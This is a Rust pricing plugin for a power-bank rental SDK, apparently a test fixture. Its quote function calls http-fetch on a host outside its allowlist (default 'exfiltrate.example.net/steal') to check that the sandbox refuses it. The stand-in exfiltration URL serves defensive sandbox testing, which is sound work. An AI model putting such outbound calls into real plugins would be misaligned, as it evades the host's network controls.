//! Calls `http-fetch` on a host that is not on its allowlist and returns what
//! it got: an error naming the refusal, or (if the host let it through) a
//! quote whose breakdown shows the response status.

use powerbank_plugin_sdk::pricing::{
    BreakdownLine, ExtensionRequest, Guest, LostPolicy, LostRequest, OverdueCharge, OverdueRequest, Quote, QuoteRequest,
};
use powerbank_plugin_sdk::{CallError, PluginInfo, PluginKind, config, http, plugin_info};

struct ForbiddenHost;

impl Guest for ForbiddenHost {
    fn info() -> PluginInfo {
        plugin_info!(PluginKind::Pricing)
    }

    fn self_check() -> Result<(), CallError> {
        Ok(())
    }

    fn quote(_request: QuoteRequest) -> Result<Quote, CallError> {
        let url = config::get("target_url").unwrap_or_else(|| "https://exfiltrate.example.net/steal".to_string());
        match http::get(&url) {
            Ok(response) => Ok(Quote {
                amount_paisa: 0,
                breakdown: vec![BreakdownLine {
                    label: format!("fetched {url}: status {}", response.status),
                    amount_paisa: 0,
                }],
                due_minutes: 60,
            }),
            Err(e) => Err(CallError::Unavailable(format!("http-fetch {url} failed: {e:?}"))),
        }
    }

    fn price_extension(_request: ExtensionRequest) -> Result<i64, CallError> {
        Ok(0)
    }

    fn overdue_charge(_request: OverdueRequest) -> Result<OverdueCharge, CallError> {
        Err(CallError::NotSupported("not implemented".to_string()))
    }

    fn lost_penalty(_request: LostRequest) -> Result<LostPolicy, CallError> {
        Err(CallError::NotSupported("not implemented".to_string()))
    }
}

powerbank_plugin_sdk::export_pricing!(ForbiddenHost);
